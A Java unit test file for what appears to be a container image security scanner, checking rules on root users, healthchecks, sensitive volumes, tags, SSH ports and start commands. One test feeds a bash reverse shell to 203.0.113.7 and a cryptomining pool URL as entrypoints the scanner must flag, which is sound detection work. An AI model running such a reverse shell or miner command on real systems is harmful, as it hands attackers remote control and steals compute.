package dev.drydock.core.image.rules;

import dev.drydock.core.findings.Finding;
import dev.drydock.core.findings.Location;
import org.junit.jupiter.api.Test;

import static dev.drydock.core.image.rules.ImageRuleCases.findings;
import static dev.drydock.core.image.rules.ImageRuleCases.skipped;
import static dev.drydock.core.image.rules.ScannedImageBuilder.image;
import static dev.drydock.core.image.rules.ScannedImageBuilder.user;
import static org.assertj.core.api.Assertions.assertThat;

/** Rules over the image's configuration: user, healthcheck, volumes, tags, ports, start command. */
class ConfigRulesTest {

    @Test
    void runsAsRoot() {
        assertThat(findings("DI1001", image().user("").build())).singleElement()
                .satisfies(f -> assertThat(f.location()).isEqualTo(new Location.ImageLayerPath("app:1.0", "", "Config.User")));
        assertThat(findings("DI1001", image().user("0:0").build())).hasSize(1);
        assertThat(findings("DI1001", image().user("root").build())).hasSize(1);
        assertThat(findings("DI1001", image().user("toor").layer("RUN useradd", ScannedImageBuilder.file("etc/passwd", 0644))
                .accounts(0, "etc/passwd", user("toor", 0, false)).build())).hasSize(1);
        assertThat(findings("DI1001", image().user("10001:10001").build())).isEmpty();
        assertThat(findings("DI1001", image().user("app").accounts(0, "etc/passwd", user("app", 1000, false))
                .layer("RUN useradd app").build())).isEmpty();
    }

    @Test
    void noHealthcheck() {
        assertThat(findings("DI1002", image().healthcheck().build())).hasSize(1);
        assertThat(findings("DI1002", image().healthcheck("NONE").build())).singleElement()
                .satisfies(f -> assertThat(f.message()).contains("HEALTHCHECK NONE"));
        assertThat(findings("DI1002", image().healthcheck("CMD-SHELL", "wget -q -O- localhost:8080/health").build())).isEmpty();
    }

    @Test
    void sensitiveVolumes() {
        assertThat(findings("DI1009", image().volume("/etc").volume("/var/run/docker.sock").volume("/data").build()))
                .extracting(f -> ((Location.ImageLayerPath) f.location()).path())
                .containsExactly("Config.Volumes./etc", "Config.Volumes./var/run/docker.sock");
        assertThat(findings("DI1009", image().volume("/var/lib/postgresql/data").build())).isEmpty();
    }

    @Test
    void latestTag() {
        assertThat(findings("DI1014", image().tags("app:latest", "app:1.0").build())).singleElement()
                .satisfies(f -> assertThat(f.evidence()).hasValue("RepoTags=app:latest"));
        assertThat(findings("DI1014", image().tags("app:1.0").build())).isEmpty();
        assertThat(skipped("DI1014", image().tags().build())).containsExactly("the image has no tag");
    }

    @Test
    void sshPort() {
        assertThat(findings("DI1015", image().expose("22/tcp").expose("8080/tcp")
                .layer("RUN apt-get install -y openssh-server", ScannedImageBuilder.file("usr/sbin/sshd", 0755)).build()))
                .singleElement().satisfies(f -> assertThat(f.message()).contains("port 22").contains("/usr/sbin/sshd"));
        assertThat(findings("DI1015", image().expose("8080/tcp").build())).isEmpty();
    }

    @Test
    void reverseShellOrPoolInTheStartCommand() {
        assertThat(findings("DI1018", image().entrypoint("/bin/sh", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1").build()))
                .extracting(Finding::message).singleElement().asString().contains("a reverse shell");
        assertThat(findings("DI1018", image().entrypoint("/opt/x", "-o", "stratum+tcp://pool.supportxmr.com:3333").build()))
                .extracting(f -> f.evidence().orElse("")).containsExactly("stratum+tcp://pool.supportxmr.com:3333");
        assertThat(findings("DI1018", image().entrypoint("/docker-entrypoint.sh", "nginx").build())).isEmpty();
    }
}
